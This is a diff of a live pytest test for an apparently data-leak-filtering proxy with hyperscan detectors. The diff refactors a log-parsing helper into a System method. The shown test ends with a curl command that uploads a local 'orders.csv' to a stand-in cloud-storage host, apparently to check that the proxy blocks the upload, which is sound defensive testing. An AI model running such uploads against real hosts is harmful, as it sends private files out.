@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 from pathlib import Path
 
 import pytest
@@ -14,11 +13,6 @@ from tests.live.system import System, start_system
 pytestmark = pytest.mark.live
 
 
-def engines(system: System) -> list[str]:
-    lines = [json.loads(line) for line in system.said().splitlines() if line.startswith("{")]
-    return [line["engine"] for line in lines if line["event"] == "detectors ready"]
-
-
 def test_a_gate_is_compiled_beside_the_proxy_and_kept(
     tmp_path: Path, certificates: Certificates, world: OriginThread
 ) -> None:
@@ -28,8 +22,8 @@ def test_a_gate_is_compiled_beside_the_proxy_and_kept(
         with running(start_system(tmp_path / "one", certificates.ca, world, hyperscan=True)) as system:
             assert isinstance(system, System)
             system.start_afresh()
-            assert wait_until(lambda proxy=system: engines(proxy)[-1:] == ["hyperscan"], 240), system.said()[-2000:]
-            assert engines(system) == expected
+            assert wait_until(lambda proxy=system: proxy.engines()[-1:] == ["hyperscan"], 240), system.said()[-2000:]
+            assert system.engines() == expected
             world.seen.clear()
             url = "https://pan.baidu.example/u"
             stopped = curl(system, url, "--interface", system.sender, "--data-binary", f"@{tmp_path / 'orders.csv'}")
